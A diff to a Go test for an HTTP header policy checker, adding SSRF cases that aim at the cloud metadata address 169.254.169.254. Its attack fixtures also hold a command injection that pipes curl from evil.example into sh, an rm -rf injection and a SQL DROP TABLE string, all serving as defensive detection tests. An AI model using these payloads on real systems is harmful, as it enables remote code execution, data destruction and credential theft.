@@ -31,6 +31,8 @@ func TestHeaderPolicy(t *testing.T) {
 		{"host", "127.0.0.1:8080"},
 		{"host", "localhost"},
 		{"host", "[::1]:8443"},
+		{"x-forwarded-for", "169.254.169.254"},
+		{"x-forwarded-for", "203.0.113.7, 10.0.0.12"},
 	}
 	for _, h := range benign {
 		t.Run("benign "+h.Name+" "+h.Value, func(t *testing.T) {
@@ -54,6 +56,9 @@ func TestHeaderPolicy(t *testing.T) {
 		{Param{"tracestate", "vendor=$(curl evil.example|sh)"}, CmdI},
 		{Param{"content-length", "0; rm -rf /tmp/x"}, CmdI},
 		{Param{"host", "shop.example';DROP TABLE users;--"}, SQLi},
+		// a URL where a host or an address belongs: judged as a URL
+		{Param{"host", "http://169.254.169.254/latest/meta-data/"}, SSRF},
+		{Param{"x-forwarded-for", "http://169.254.169.254/latest/meta-data/"}, SSRF},
 	}
 	for _, tc := range attacks {
 		t.Run("attack "+tc.h.Name, func(t *testing.T) {
